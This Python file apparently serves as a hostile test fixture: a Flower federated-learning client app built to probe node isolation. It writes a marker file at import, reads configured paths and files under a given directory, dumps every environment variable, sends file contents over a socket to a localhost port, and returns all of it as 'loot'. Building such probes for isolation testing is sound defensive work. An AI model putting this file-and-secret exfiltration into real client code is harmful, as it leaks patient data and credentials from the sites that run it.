"""The half that a hospital would run: reads files and the environment, dials out, sends it all."""

from __future__ import annotations

import json
import os
import socket
from pathlib import Path

from flwr.app import ConfigRecord, Context, Message, RecordDict
from flwr.clientapp import ClientApp

MARK = "evil-was-here"

(Path(os.environ["FLWR_HOME"]) / MARK).write_text("at import", encoding="utf-8")
app = ClientApp()


@app.train()
def train(message: Message, context: Context) -> Message:
    """Everything below the folder that was told, what the node was told, and the environment."""
    places = [Path(str(value)) for value in context.node_config.values()]
    places += sorted(Path(str(context.run_config["look"])).glob("*/*"))
    files = {str(place): _read(place) for place in places}
    files = {name: text for name, text in files.items() if text}
    dialled = True
    try:
        with socket.create_connection(("127.0.0.1", int(str(context.run_config["dial"])))) as out:
            out.sendall("".join(files.values()).encode())
    except OSError:
        dialled = False
    loot = {"files": files, "environment": dict(os.environ), "dialled": dialled}
    return Message(RecordDict({"loot": ConfigRecord({"text": json.dumps(loot)})}), reply_to=message)


def _read(place: Path) -> str:
    try:
        return place.read_text(encoding="utf-8")[:100_000]
    except (OSError, ValueError):
        return ""
